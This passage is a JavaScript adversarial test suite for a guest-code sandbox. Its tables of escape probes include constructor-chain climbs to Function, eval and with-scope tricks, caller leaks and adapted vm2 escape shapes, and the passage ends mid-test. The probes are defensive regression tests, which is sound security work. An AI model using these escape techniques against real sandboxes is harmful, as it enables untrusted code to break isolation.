// The adversarial suite: untrusted guest code against the worker tier (Compartment) in
// Debian's Chromium. Every table row is an attack, every assertion an invariant from
// SECURITY.md; a regression fails here by name. A probe that found a real problem stays as a
// failing `todo` test that names the bug, so the suite passes until it is fixed.
//
// Out of scope here (see SECURITY.md): the module broker's own cases (realm policy, pinned
// packages, credentials), CSS, trusted-export tokens and card action ids. Dynamic import is
// probed only as an exfiltration channel from scripts.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { start } from './harness.mjs';

let h;
let page;

/** Page-side helpers, installed once: outcomes as plain data, frame-gap meter, host handler. */
function installHelpers() {
  const pkg = globalThis.pkg;
  globalThis.sec = {
    calls: [],
    // The host handler every escape compartment gets. Its answers carry host objects of
    // every kind the boundary knows, and its error carries a field and a stack that must not
    // reach the guest.
    handler(op, payload) {
      globalThis.sec.calls.push([op, payload]);
      if (op === 'throw') {
        const e = new TypeError('host says no');
        e.secret = location.href;
        throw e;
      }
      if (op === 'echo') return payload;
      return { ok: true, date: new Date(0), map: new Map([[1, 'x']]), err: new RangeError('host data') };
    },
    describe(v) {
      if (typeof v === 'bigint') return { bigint: String(v) };
      if (v === null || typeof v !== 'object') return v;
      if (Array.isArray(v)) return { array: v.length, keys: Object.keys(v).slice(0, 8), first: Array.from(v.slice(0, 4), (x) => (x !== null && typeof x === 'object' ? typeof x : x)) };
      return { object: Object.prototype.toString.call(v), keys: Object.keys(v).slice(0, 8) };
    },
    err(e) {
      if (!(e instanceof Error)) return { ok: false, thrown: String(e) };
      return { ok: false, sandbox: e instanceof pkg.SandboxError, code: e.code, limit: e.limit, reason: e.reason,
        path: e.path && e.path.slice(0, 60), valueType: e.valueType, guestName: e.guestName,
        guestMessage: e.guestMessage && e.guestMessage.slice(0, 160), message: e.message.slice(0, 200) };
    },
    outcome(p, view = (v) => globalThis.sec.describe(v)) {
      return p.then((v) => ({ ok: true, value: view(v) }), (e) => globalThis.sec.err(e));
    },
    /** Starts measuring the largest gap between animation frames; the returned stop() reads it. */
    frames() {
      let last = performance.now();
      let worst = 0;
      let on = true;
      const tick = (t) => { worst = Math.max(worst, t - last); last = t; if (on) requestAnimationFrame(tick); };
      requestAnimationFrame(tick);
      return () => { on = false; return Math.max(worst, performance.now() - last); };
    },
  };
}

before(async () => {
  h = await start();
  page = await h.page('/tests/');
  await page.waitForFunction(() => globalThis.ready === true);
  await page.evaluate(installHelpers);
});
after(async () => h && h.close());

/** Runs `fn(pkg, arg, ...extra)` in the page; `extra` are functions passed as source. */
const run = (fn, arg, ...extra) =>
  page.evaluate(`(${fn})(globalThis.pkg, ${JSON.stringify(arg ?? null)}${extra.map((f) => `, ${f}`).join('')})`);

/** `SANDBOX_CODE:detail` of an outcome, or `value`. */
const kindOf = (o) => (o.ok ? 'value' : `${o.code}:${o.limit ?? o.reason ?? o.valueType ?? o.guestName ?? ''}`);

// ------------------------------------------------------------------------------------------
// Escapes
// ------------------------------------------------------------------------------------------

/** Names that exist in a page or a worker (or Node) and must never exist for the guest. */
const HOST_GLOBALS = [
  'window', 'document', 'fetch', 'localStorage', 'sessionStorage', 'indexedDB', 'caches', 'WebSocket',
  'Worker', 'SharedWorker', 'navigator', 'location', 'importScripts', 'postMessage', 'self', 'XMLHttpRequest',
  'EventSource', 'WebAssembly', 'SharedArrayBuffer', 'Atomics', 'process', 'require', 'Deno', 'top', 'parent',
  'opener', 'close', 'onmessage', 'chrome',
];

const EVALUATOR_KINDS = ['Function', 'AsyncFunction', 'GeneratorFunction', 'AsyncGeneratorFunction'];

/** Guest helpers, evaluated once in each probing compartment. */
const GUEST_LIB = `
var __HOST_GLOBALS = ${JSON.stringify(HOST_GLOBALS)};
var __EVALUATORS = new Map([
  [Function, 'Function'],
  [(async function () {}).constructor, 'AsyncFunction'],
  [(function* () {}).constructor, 'GeneratorFunction'],
  [(async function* () {}).constructor, 'AsyncGeneratorFunction'],
]);
function __caught(f) {
  try { f(); } catch (e) { return e; }
  throw new Error('expected a throw');
}
async function __rejected(p) {
  try { await p; } catch (e) { return e; }
  throw new Error('expected a rejection');
}
// Walks Reflect.getPrototypeOf to the top and returns what sits at the end of the chain's
// constructor.constructor: the way published escapes climb from an endowment to Function.
function __top(x) {
  let o = x, last = x;
  while (o !== null) { last = o; o = Reflect.getPrototypeOf(o); }
  return last.constructor.constructor;
}
async function __runIn(F, expr) {
  const kind = __EVALUATORS.get(F);
  const generator = kind === 'GeneratorFunction' || kind === 'AsyncGeneratorFunction';
  const r = F(generator ? 'yield (' + expr + ')' : 'return (' + expr + ')')();
  if (kind === 'GeneratorFunction') return r.next().value;
  if (kind === 'AsyncGeneratorFunction') return (await r.next()).value;
  return kind === 'AsyncFunction' ? await r : r;
}
// Compiles code with F: every host global must be absent and every global found must be
// this realm's globalThis (so no second, host global exists).
async function __probe(F) {
  const kind = __EVALUATORS.get(F);
  if (kind === undefined) return { kind: typeof F === 'function' ? 'a function that is no guest evaluator: ' + F.name : typeof F };
  const types = {};
  for (const name of __HOST_GLOBALS) types[name] = await __runIn(F, 'typeof ' + name);
  const globals = [];
  for (const e of ['this', 'globalThis', '(0, eval)("this")', 'Function("return this")()']) globals.push(await __runIn(F, e));
  return { kind, types, sameGlobal: globals.every((g) => g === globalThis) };
}
function __evalProbe(ev) {
  const types = {};
  for (const name of __HOST_GLOBALS) types[name] = ev('typeof ' + name);
  return { kind: 'eval', types, sameGlobal: ev('this') === globalThis && ev('globalThis') === globalThis };
}
function __scopeProbe(kind, lookup, self) {
  const types = {};
  for (const name of __HOST_GLOBALS) types[name] = lookup(name);
  return { kind, types, sameGlobal: self === globalThis };
}
// What a function sees as its caller: a guest function, null, or (Boa) a TypeError.
function __callerOf(f) {
  try {
    const c = f.caller;
    if (c === null || c === undefined) return String(c);
    return typeof c === 'function' && __EVALUATORS.has(Reflect.getPrototypeOf(c).constructor) ? 'guest function' : 'foreign: ' + typeof c;
  } catch (e) {
    return e.name;
  }
}
function __callerHostProbe() { return __callerOf(__callerHostProbe); }
undefined`;

// Each row yields something that should be a guest function constructor: the four
// evaluators, the .constructor of every literal kind and of every endowment, constructors
// of errors the endowments throw, and prototype walks. The lazy platform accessors come
// first, before any row touches URL, Intl or TextEncoder.
const ESCAPES = [
  ['URL accessor before first use', '(Object.getOwnPropertyDescriptor(globalThis, "URL").get || URL).constructor'],
  ['Intl accessor before first use', '(Object.getOwnPropertyDescriptor(globalThis, "Intl").get || Intl).constructor'],
  ['TextEncoder setter before first use', '(Object.getOwnPropertyDescriptor(globalThis, "TextEncoder").set || TextEncoder).constructor'],
  ['toLocaleString stub before first use', 'Number.prototype.toLocaleString.constructor'],
  ['localeCompare stub before first use', 'String.prototype.localeCompare.constructor'],
  // The function constructors and function kinds.
  ['Function', 'Function'],
  ['Function.prototype.constructor', 'Function.prototype.constructor'],
  ['AsyncFunction', '(async function () {}).constructor'],
  ['GeneratorFunction', '(function* () {}).constructor'],
  ['AsyncGeneratorFunction', '(async function* () {}).constructor'],
  ['arrow', '(() => 1).constructor'],
  ['async arrow', '(async () => 1).constructor'],
  ['class', '(class {}).constructor'],
  ['derived class', '(class extends Array {}).constructor'],
  ['method', '({ m() {} }).m.constructor'],
  ['async method', '({ async m() {} }).m.constructor'],
  ['accessor', 'Object.getOwnPropertyDescriptor({ get x() { return 1; } }, "x").get.constructor'],
  ['bound function', '(function () {}).bind(null).constructor'],
  ['callable Proxy', 'new Proxy(function () {}, {}).constructor'],
  ['%ThrowTypeError%', '(function () { "use strict"; return Object.getOwnPropertyDescriptor(arguments, "callee").get; })().constructor'],
  ['generator object', '(function* () {})().constructor.constructor'],
  ['async generator object', '(async function* () {})().constructor.constructor'],
  ['array iterator', '[][Symbol.iterator]().next.constructor'],
  ['regexp string iterator', '"a".matchAll(/a/g).next.constructor'],
  ['iterator helper', 'Iterator.from([1]).map((x) => x).next.constructor'],
  ['%TypedArray%', 'Object.getPrototypeOf(Int8Array).constructor'],
  ['promise resolving function', '(new Promise((r) => { globalThis.__res = r; }), __res.constructor)'],
  ['Proxy.revocable revoke', 'Proxy.revocable({}, {}).revoke.constructor'],
  ['__proto__ accessor', 'Object.getOwnPropertyDescriptor(Object.prototype, "__proto__").get.constructor'],
  ['__lookupGetter__', '({}).__lookupGetter__("__proto__").constructor'],
  // Every literal kind and builtin value.
  ['object literal', '({}).constructor.constructor'],
  ['array literal', '[].constructor.constructor'],
  ['string', '"".constructor.constructor'],
  ['template string', '`${1}`.constructor.constructor'],
  ['tagged template strings', '((s) => s)`x`.constructor.constructor'],
  ['number', '(0).constructor.constructor'],
  ['bigint', '(0n).constructor.constructor'],
  ['boolean', 'true.constructor.constructor'],
  ['symbol', 'Symbol().constructor.constructor'],
  ['regexp', '/x/.constructor.constructor'],
  ['arguments object', '(function () { return arguments; })().constructor.constructor'],
  ['Date', 'new Date().constructor.constructor'],
  ['Map', 'new Map().constructor.constructor'],
  ['Set', 'new Set().constructor.constructor'],
  ['WeakMap', 'new WeakMap().constructor.constructor'],
  ['WeakRef', 'new WeakRef({}).constructor.constructor'],
  ['FinalizationRegistry', 'new FinalizationRegistry(() => {}).constructor.constructor'],
  ['ArrayBuffer', 'new ArrayBuffer(1).constructor.constructor'],
  ['DataView', 'new DataView(new ArrayBuffer(1)).constructor.constructor'],
  ['Uint8Array', 'new Uint8Array(1).constructor.constructor'],
  ['BigInt64Array', 'new BigInt64Array(1).constructor.constructor'],
  ['Promise', 'Promise.resolve().constructor.constructor'],
  ['Error', 'new Error().constructor.constructor'],
  ['AggregateError', 'new AggregateError([]).constructor.constructor'],
  ['Math', 'Math.constructor.constructor'],
  ['JSON', 'JSON.constructor.constructor'],
  ['Reflect', 'Reflect.constructor.constructor'],
  ['globalThis', 'globalThis.constructor.constructor'],
  ['this.constructor.constructor (the Node vm classic)', 'this.constructor.constructor'],
  // Every endowment.
  ['setTimeout', 'setTimeout.constructor'],
  ['setInterval', 'setInterval.constructor'],
  ['clearTimeout', 'clearTimeout.constructor'],
  ['clearInterval', 'clearInterval.constructor'],
  ['timer id', 'setTimeout(() => {}, 0).constructor.constructor'],
  ['queueMicrotask', 'queueMicrotask.constructor'],
  ['structuredClone', 'structuredClone.constructor'],
  ['structuredClone result', 'structuredClone({ a: new Map() }).a.constructor.constructor'],
  ['atob', 'atob.constructor'],
  ['btoa', 'btoa.constructor'],
  ['console', 'console.constructor.constructor'],
  ['console.log', 'console.log.constructor'],
  ['console.error', 'console.error.constructor'],
  ['performance', 'performance.constructor.constructor'],
  ['performance.now', 'performance.now.constructor'],
  ['crypto', 'crypto.constructor.constructor'],
  ['crypto.getRandomValues', 'crypto.getRandomValues.constructor'],
  ['crypto.randomUUID', 'crypto.randomUUID.constructor'],
  ['getRandomValues result', 'crypto.getRandomValues(new Uint8Array(4)).constructor.constructor'],
  ['TextEncoder', 'TextEncoder.constructor'],
  ['TextEncoder#encode result', 'new TextEncoder().encode("x").constructor.constructor'],
  ['TextDecoder#decode', 'new TextDecoder().decode.constructor'],
  ['URL', 'URL.constructor'],
  ['URL instance', 'new URL("https://a.example/?q=1").constructor.constructor'],
  ['URL#searchParams', 'new URL("https://a.example/?q=1").searchParams.constructor.constructor'],
  ['URL#href getter', 'Object.getOwnPropertyDescriptor(URL.prototype, "href").get.constructor'],
  ['URLSearchParams iterator', 'new URLSearchParams("a=1").entries().constructor.constructor'],
  ['Intl', 'Intl.constructor.constructor'],
  ['Intl.NumberFormat', 'Intl.NumberFormat.constructor'],
  ['NumberFormat#format (bound)', 'new Intl.NumberFormat("en").format.constructor'],
  ['bridge record', 'new Intl.NumberFormat("en").resolvedOptions().constructor.constructor'],
  ['bridge array', 'new Intl.NumberFormat("en").formatToParts(1).constructor.constructor'],
  ['Intl.DateTimeFormat', 'Intl.DateTimeFormat.constructor'],
  ['Collator#compare (bound)', 'new Intl.Collator("en").compare.constructor'],
  ['getCanonicalLocales result', 'Intl.getCanonicalLocales("EN-us").constructor.constructor'],
  ['toLocaleString once installed', '((1).toLocaleString("de"), Number.prototype.toLocaleString.constructor)'],
  ['host handler', 'callParent.constructor'],
  ['host handler promise', 'callParent("ok").constructor.constructor'],
  ['host handler answer', '(await callParent("ok")).map.constructor.constructor'],
  ['host handler answer error', '(await callParent("ok")).err.constructor.constructor'],
  ['host handler rejection', '(await __rejected(callParent("throw"))).constructor.constructor'],
  ['host handler refusal', '__caught(() => callParent(Symbol())).constructor.constructor'],
  // Errors the endowments and the engine make.
  ['DataCloneError', '__caught(() => structuredClone(() => 1)).constructor.constructor'],
  ['URL TypeError', '__caught(() => new URL("nope")).constructor.constructor'],
  ['atob InvalidCharacterError', '__caught(() => atob("*")).constructor.constructor'],
  ['string timer handler', '__caught(() => setTimeout("1")).constructor.constructor'],
  ['bridge error from the host engine', '__caught(() => new Intl.NumberFormat("en", { style: "currency" })).constructor.constructor'],
  ['getRandomValues TypeError', '__caught(() => crypto.getRandomValues(new Float32Array(1))).constructor.constructor'],
  ['TextDecoder RangeError', '__caught(() => new TextDecoder("latin1")).constructor.constructor'],
  ['TypeError', '__caught(() => null.x).constructor.constructor'],
  ['ReferenceError', '__caught(() => notDefinedAnywhere).constructor.constructor'],
  ['SyntaxError from eval', '__caught(() => eval("let let")).constructor.constructor'],
  ['RangeError', '__caught(() => new Array(-1)).constructor.constructor'],
  ['URIError', '__caught(() => decodeURI("%")).constructor.constructor'],
  ['error prototype walk (vm2)', '__caught(() => null.x).__proto__.__proto__.constructor.constructor'],
  // Reflect.getPrototypeOf walks from endowments to the top, then to a Function.
  ['prototype walk from setTimeout', '__top(setTimeout)'],
  ['prototype walk from console.log', '__top(console.log)'],
  ['prototype walk from crypto', '__top(crypto)'],
  ['prototype walk from performance.now', '__top(performance.now)'],
  ['prototype walk from structuredClone', '__top(structuredClone)'],
  ['prototype walk from queueMicrotask', '__top(queueMicrotask)'],
  ['prototype walk from a URL', '__top(new URL("https://a.example/"))'],
  ['prototype walk from a NumberFormat', '__top(new Intl.NumberFormat("en"))'],
  ['prototype walk from a TextEncoder', '__top(new TextEncoder())'],
  ['prototype walk from the host handler', '__top(callParent)'],
];

// Each row evaluates to { kind, types, sameGlobal } itself: eval in all its forms, `with`
// scopes and Symbol.unscopables, and the `this` callbacks see.
const SCOPE_PROBES = [
  ['direct eval', '(function () { return __scopeProbe("eval", (n) => eval("typeof " + n), eval("this")); })()'],
  ['direct eval in strict code', '(function () { "use strict"; return __scopeProbe("eval", (n) => eval("typeof " + n), eval("globalThis")); })()'],
  ['indirect eval', '__evalProbe((0, eval))'],
  ['globalThis.eval', '__evalProbe(globalThis.eval)'],
  ['optional-call eval', '__evalProbe((s) => eval?.(s))'],
  ['Reflect.apply(eval)', '__evalProbe((s) => Reflect.apply(eval, undefined, [s]))'],
  ['eval from a Function', '__evalProbe(Function("return eval")())'],
  ['eval inside with (globalThis)', '__evalProbe((s) => { with (globalThis) { return eval(s); } })'],
  ['with + Symbol.unscopables', '(() => { const scope = { window: 1, [Symbol.unscopables]: { window: true, self: true, document: true } }; with (scope) { return __scopeProbe("with", (n) => eval("typeof " + n), eval("this")); } })()'],
  ['with over a Proxy that claims every name', '(() => { const scope = new Proxy({}, { has: (t, k) => k !== "__scopeProbe" && k !== "eval" && k !== "n", get: () => undefined }); with (scope) { return __scopeProbe("with", (n) => eval("typeof " + n), eval("this")); } })()'],
  ['with over Array.prototype with its unscopables removed', '(() => { const saved = Array.prototype[Symbol.unscopables]; Array.prototype[Symbol.unscopables] = {}; try { with ([]) { return __scopeProbe("with", (n) => eval("typeof " + n), eval("this")); } } finally { Array.prototype[Symbol.unscopables] = saved; } })()'],
  ['this in a timer callback', 'new Promise((r) => setTimeout(function () { r(__scopeProbe("callback", (n) => typeof this[n], this)); }, 0))'],
  ['this in a microtask', 'new Promise((r) => queueMicrotask(function () { r(__scopeProbe("callback", (n) => typeof this[n], this)); }))'],
  ['this in a getter run by the boundary', '(async () => { let seen; structuredClone({ get x() { seen = (function () { return this; })(); return 1; } }); return __scopeProbe("callback", (n) => typeof seen[n], seen); })()'],
];

// What a guest function sees as its caller when something other than guest code calls it.
const CALLERS = [
  ['called by a timer', 'new Promise((r) => setTimeout(function f() { r(__callerOf(f)); }, 0))'],
  ['called as a microtask', 'new Promise((r) => queueMicrotask(function f() { r(__callerOf(f)); }))'],
  ['a promise reaction', 'Promise.resolve().then(function f() { return __callerOf(f); })'],
  ['a sort comparator', '(() => { let seen; [2, 1].sort(function f(a, b) { seen = __callerOf(f); return a - b; }); return seen; })()'],
  ['a getter run by structuredClone', '(() => { let seen; structuredClone(Object.defineProperty({}, "x", { enumerable: true, get: function f() { seen = __callerOf(f); return 1; } })); return seen; })()'],
  ['toString run by console fallback', '(() => { let seen; console.log({ f() {}, toString: function f() { seen = __callerOf(f); return "s"; } }); return seen; })()'],
  ['arguments.callee.caller in sloppy code', '(function f() { try { return __callerOf(arguments.callee); } catch (e) { return e.name; } })()'],
  ['after a host handler round trip', '(async function f() { await callParent("ok"); return __callerOf(f); })()'],
];

test('escapes: every evaluator reachable from any value is the guest\'s own and finds no host global', async () => {
  const r = await run(async (pkg, { lib, escapes, scopes, callers }) => {
    const c = await pkg.Compartment.create({ principal: 'escape', exposeHandlerAs: 'callParent',
      handler: globalThis.sec.handler, limits: { timeoutMs: 3000 } });
    await c.eval(lib, { filename: 'lib.js' });
    const probe = async (src) => {
      try { return await c.eval(src, { filename: 'escape.js' }); } catch (e) { return { error: `${e.code} ${e.guestName || ''}: ${e.guestMessage || e.message}` }; }
    };
    const out = { escapes: [], scopes: [], callers: [] };
    for (const [label, expr] of escapes) out.escapes.push([label, await probe(`(async () => __probe(await (${expr})))()`)]);
    for (const [label, expr] of scopes) out.scopes.push([label, await probe(`(async () => await (${expr}))()`)]);
    for (const [label, expr] of callers) out.callers.push([label, await probe(`(async () => await (${expr}))()`)]);
    out.callers.push(['called by the host (Compartment.call)', await c.call('__callerHostProbe').catch((e) => ({ error: e.message }))]);
    out.globalSymbols = await probe('Object.getOwnPropertySymbols(globalThis).map(String)');
    out.keyedBySymbolFor = await probe('["nodejs.util.inspect.custom", "window", "process", "Deno.internal", "self"].map((k) => typeof globalThis[Symbol.for(k)])');
    out.hostStackLeak = await probe('(async () => { const e = await __rejected(callParent("throw")); return [e.name, e.message, "secret" in e, String(e.stack).includes("http")]; })()');
    await c.dispose();
    return out;
  }, { lib: GUEST_LIB, escapes: ESCAPES, scopes: SCOPE_PROBES, callers: CALLERS });

  const failures = [];
  const check = (label, res, kinds) => {
    if (res.error) { failures.push(`${label}: ${res.error}`); return; }
    if (!kinds.includes(res.kind)) failures.push(`${label}: reached ${res.kind}`);
    for (const [name, type] of Object.entries(res.types || {})) {
      if (type !== 'undefined') failures.push(`${label}: typeof ${name} is ${type}`);
    }
    if (res.sameGlobal !== true) failures.push(`${label}: found a global that is not the guest's globalThis`);
  };
  for (const [label, res] of r.escapes) check(label, res, EVALUATOR_KINDS);
  for (const [label, res] of r.scopes) check(label, res, ['eval', 'with', 'callback']);
  for (const [label, res] of r.callers) {
    // Boa refuses `caller` outright (TypeError); null or a guest function would also be safe.
    if (!['TypeError', 'null', 'undefined', 'guest function'].includes(res)) failures.push(`caller ${label}: ${JSON.stringify(res)}`);
  }
  assert.deepEqual(failures, []);
  assert.equal(r.escapes.length, ESCAPES.length);
  assert.deepEqual(r.globalSymbols, []);
  assert.deepEqual(r.keyedBySymbolFor, ['undefined', 'undefined', 'undefined', 'undefined', 'undefined']);
  assert.deepEqual(r.hostStackLeak, ['TypeError', 'host says no', false, false], 'a host error reaches the guest as name and message only');
  console.log(`escapes: ${r.escapes.length} evaluator paths, ${r.scopes.length} eval/with/callback scopes, ${r.callers.length} caller probes; none reached a host global`);
});

test('escapes: the whole object graph reachable from the guest global is built from guest intrinsics', async () => {
  const r = await run(async (pkg, lib) => {
    const c = await pkg.Compartment.create({ principal: 'escape-walk', exposeHandlerAs: 'callParent', handler: globalThis.sec.handler, limits: { timeoutMs: 5000 } });
    await c.eval(lib);
    const result = await c.eval(`(async () => {
      // Materialise every lazy platform global and a few instances first.
      const roots = [['globalThis', globalThis], ['URL', new URL('https://a.example/?q=1')], ['searchParams', new URL('https://a.example/?q=1').searchParams],
        ['NumberFormat', new Intl.NumberFormat('en')], ['DateTimeFormat', new Intl.DateTimeFormat('en')], ['TextEncoder', new TextEncoder()],
        ['TextDecoder', new TextDecoder()], ['handler promise', callParent('ok')], ['handler answer', await callParent('ok')],
        ['handler error', await __rejected(callParent('throw'))], ['clone', structuredClone({ a: [new Map(), new Set(), new Date(0), /x/g, new Uint8Array(2)] })]];
      (1).toLocaleString('de'); 'a'.localeCompare('b'); new Date(0).toLocaleDateString('en');
      const FUNCTION_PROTOS = new Set([...__EVALUATORS.keys()].map((F) => F.prototype));
      const suspicious = new Set(__HOST_GLOBALS.filter((n) => !['self', 'top', 'parent', 'close', 'opener', 'location'].includes(n)));
      const seen = new Set();
      const queue = roots;
      const foreign = [];
      let functions = 0;
      for (let i = 0; i < queue.length && seen.size < 50000; i++) {
        const [path, o] = queue[i];
        if (o === null || (typeof o !== 'object' && typeof o !== 'function') || seen.has(o)) continue;
        seen.add(o);
        let p = o, last = o;
        while ((p = Reflect.getPrototypeOf(p)) !== null) last = p;
        if (last !== Object.prototype && Reflect.getPrototypeOf(o) !== null) foreign.push(path + ': prototype chain ends elsewhere');
        if (typeof o === 'function') {
          functions++;
          let q = o, ok = FUNCTION_PROTOS.has(o);
          for (let i = 0; i < 32 && q !== null; i++) { q = Reflect.getPrototypeOf(q); if (FUNCTION_PROTOS.has(q)) { ok = true; break; } }
          if (!ok) foreign.push(path + ': a function outside the guest function kinds');
          if (!__EVALUATORS.has(o.constructor)) foreign.push(path + ': .constructor is not a guest evaluator');
        }
        queue.push([path + '.[[Prototype]]', Reflect.getPrototypeOf(o)]);
        for (const key of Reflect.ownKeys(o)) {
          if (typeof key === 'string' && suspicious.has(key)) foreign.push(path + '.' + key + ': a host-global name');
          const d = Reflect.getOwnPropertyDescriptor(o, key);
          const name = path + '.' + String(key);
          if ('value' in d) queue.push([name, d.value]);
          else { queue.push([name + '<get>', d.get]); queue.push([name + '<set>', d.set]); }
        }
      }
      return { objects: seen.size, functions, foreign: foreign.slice(0, 20) };
    })()`);
    await c.dispose();
    return result;
  }, GUEST_LIB);
  assert.deepEqual(r.foreign, []);
  assert.ok(r.objects > 500 && r.functions > 400, JSON.stringify(r));
  console.log(`reachability: ${r.objects} objects, ${r.functions} functions from the guest global, all guest-realm`);
});

test('escapes: with allowCodeGeneration false, every evaluator path refuses to compile', async () => {
  const r = await run(async (pkg, { lib, escapes }) => {
    const c = await pkg.Compartment.create({ principal: 'escape-nocodegen', allowCodeGeneration: false,
      exposeHandlerAs: 'callParent', handler: globalThis.sec.handler, limits: { timeoutMs: 3000 } });
    await c.eval(lib);
    const out = [];
    for (const [label, expr] of escapes) {
      const src = `(async () => { const F = await (${expr}); if (!__EVALUATORS.has(F)) return 'not an evaluator'; try { F('return 1'); return 'compiled'; } catch (e) { return e.name; } })()`;
      out.push([label, await c.eval(src).catch((e) => `${e.code}: ${e.guestMessage || e.message}`)]);
    }
    const evals = await c.eval(`[() => eval('1'), () => (0, eval)('1'), () => globalThis.eval('1'), () => eval?.('1'), () => Reflect.apply(eval, null, ['1'])]
      .map((f) => { try { f(); return 'compiled'; } catch (e) { return e.name; } })`);
    const stringTimer = await c.eval("try { setTimeout('globalThis.ran = 1', 0); 'accepted' } catch (e) { e.name }");
    const uncaught = await c.eval('Function("return 1")()').then(() => 'compiled', (e) => [e.code, e.guestName]);
    await c.dispose();
    return { out, evals, stringTimer, uncaught };
  }, { lib: GUEST_LIB, escapes: ESCAPES });
  const bad = r.out.filter(([, v]) => v !== 'EvalError');
  assert.deepEqual(bad, []);
  assert.deepEqual(r.evals, ['EvalError', 'EvalError', 'EvalError', 'EvalError', 'EvalError']);
  assert.equal(r.stringTimer, 'TypeError');
  assert.deepEqual(r.uncaught, ['SANDBOX_POLICY_DENIED', 'EvalError']);
});

// Published escapes from vm2 and Node's vm, adapted: each returns what the attacker would
// have reached; all of it must be the guest's own world.
const VM2 = [
  ['Promise species with a fake executor (vm2 CVE-2023-37466 shape)', `(async () => {
    let got = 'executor never ran';
    const p = (async () => { null.x; })();
    p.constructor = { [Symbol.species]: class FakePromise { constructor(executor) { executor((x) => x, (err) => {
      got = err.constructor.constructor('return [typeof window, typeof self, typeof postMessage, typeof importScripts, this === globalThis]')();
    }); } } };
    p.then();
    for (let i = 0; i < 5; i++) await null;
    return got;
  })()`, ['undefined', 'undefined', 'undefined', 'undefined', true]],
  ['Error.prepareStackTrace / captureStackTrace hooks (vm2 CVE-2022-36067 shape)', `(async () => {
    let frames = null;
    Error.prepareStackTrace = (e, sst) => { frames = sst; return 'hooked'; };
    Error.captureStackTrace = () => { frames = 'captureStackTrace called'; };
    const errors = [__caught(() => null.f()), await __rejected(callParent('throw')), __caught(() => structuredClone(() => 1)),
      __caught(() => new Intl.NumberFormat('en', { style: 'currency' })), __caught(() => new URL('nope')), __caught(() => atob('*'))];
    // A stack, where there is one, is a string of guest frames (a host error re-made in the guest has none).
    const stacks = errors.map((e) => e.stack === undefined || (typeof e.stack === 'string' && !e.stack.includes('http')));
    // If the engine ever calls the hook, whatever it hands over must be guest-realm.
    const framesOk = frames === null || (Array.isArray(frames) && frames.every((f) => f === null || typeof f !== 'object' || __EVALUATORS.has(f.constructor.constructor)));
    return [stacks.every(Boolean), framesOk, typeof frames === 'string' ? frames : 'no host frames'];
  })()`, [true, true, 'no host frames']],
  ['Proxy apply trap as an error name toString (vm2 CVE-2023-32314 shape)', `(() => {
    const seen = [];
    const err = new Error('x');
    err.name = { toString: new Proxy(() => 'E', { apply(target, thiz, args) { seen.push(args.constructor.constructor('return typeof window + typeof self')()); return 'E'; } }) };
    try { String(err); err.stack; } catch (e) { seen.push('threw ' + e.name); }
    globalThis.__proxyNameErr = err;
    return seen.every((s) => s === 'undefinedundefined' || s.startsWith('threw'));
  })()`, true],
  ['Symbol.for("nodejs.util.inspect.custom") and conversion hooks on crossing values', `(async () => {
    let hooks = 0;
    const evil = { a: 1, [Symbol.for('nodejs.util.inspect.custom')]: () => { hooks++; }, [Symbol.toPrimitive]: () => { hooks++; return 'p'; } };
    Object.defineProperty(evil, 'toJSON', { enumerable: false, value: () => { hooks++; return {}; } });
    console.log(evil);
    const echoed = await callParent('echo', evil);
    structuredClone(evil);
    return [hooks, JSON.stringify(echoed)];
  })()`, [0, '{"a":1}']],
  ['arguments.callee.caller from a callback the engine calls', `(() => {
    let seen = 'not called';
    [1, 2].sort(function () { try { seen = typeof arguments.callee.caller; } catch (e) { seen = e.name; } return 0; });
    return seen;
  })()`, 'TypeError'],
  ['constructor walk from a caught engine error to process', `(() => { try { null.x; } catch (e) { return e.constructor.constructor('return typeof process + typeof require + typeof globalThis.process')(); } })()`, 'undefinedundefinedundefined'],
  ['Reflect.construct with a host-handler newTarget', `(() => { try { return typeof Reflect.construct(Object, [], callParent); } catch (e) { return e.name; } })()`, 'TypeError'],
  ['Function.prototype.toString of endowments reveals no host source', `[setTimeout, console.log, callParent, crypto.getRandomValues, structuredClone].map((f) => Function.prototype.toString.call(f).includes('[native code]') && !/http|wasm|postMessage/.test(Function.prototype.toString.call(f))).every(Boolean)`, true],
];

test('escapes: published vm2 and Node vm escapes, adapted', async () => {
  const r = await run(async (pkg, { lib, rows }) => {
    const c = await pkg.Compartment.create({ principal: 'vm2', exposeHandlerAs: 'callParent', handler: globalThis.sec.handler, limits: { timeoutMs: 3000 } });
    await c.eval(lib);
    const out = [];
    for (const [label, src] of rows) out.push([label, await c.eval(src).catch((e) => `${e.code} ${e.guestName}: ${e.guestMessage || e.message}`)]);
    // The proxy-named error, thrown uncaught: the host-side classification must not run it
    // into anything but the guest, and must stay typed.
    const uncaught = await c.eval('throw __proxyNameErr').then(() => 'no error', (e) => [e.code, e.guestName]);
    await c.dispose();
    return { out, uncaught, prepare: typeof Error.prepareStackTrace, capture: Error.captureStackTrace.toString().includes('[native code]') };
  }, { lib: GUEST_LIB, rows: VM2.map(([l, s]) => [l, s]) });
  for (const [i, [label, result]] of r.out.entries()) assert.deepEqual(result, VM2[i][2], label);
  assert.equal(r.uncaught[0], 'SANDBOX_GUEST_THREW');
  assert.equal(r.prepare, 'undefined', 'the page\'s Error.prepareStackTrace is untouched');
  assert.equal(r.capture, true, 'the page\'s Error.captureStackTrace is still V8\'s');
});

test('escapes: Symbol.species on values crossing the boundary is never consulted', async () => {
  const r = await run(async (pkg) => {
    const c = await pkg.Compartment.create({ principal: 'species', exposeHandlerAs: 'callParent', handler: (x) => x });
    const out = {};
    await c.eval(`globalThis.speciesHits = 0;
      globalThis.sub = new Uint8Array([1, 2, 3]).subarray(1);
      const trap = { get() { speciesHits++; throw new Error('species consulted'); }, configurable: true };
      Object.defineProperty(Array, Symbol.species, trap);
      Object.defineProperty(Promise, Symbol.species, trap);
      Object.defineProperty(Map, Symbol.species, trap);
      Object.defineProperty(ArrayBuffer, Symbol.species, trap);
      Object.defineProperty(Uint8Array, Symbol.species, trap);
      class EvilArray extends Array { static get [Symbol.species]() { speciesHits++; throw new Error('subclass species'); } }
      globalThis.evilArray = EvilArray.from([1, 2, 3]);
      Object.defineProperty(evilArray, 'constructor', { get() { speciesHits++; throw new Error('constructor read'); } });
      class EvilPromise extends Promise { static get [Symbol.species]() { speciesHits++; throw new Error('promise species'); } }
      globalThis.EvilPromise = EvilPromise;
      undefined`);
    out.array = await c.eval('evilArray');
    out.arrayProto = Object.getPrototypeOf(out.array) === Array.prototype;
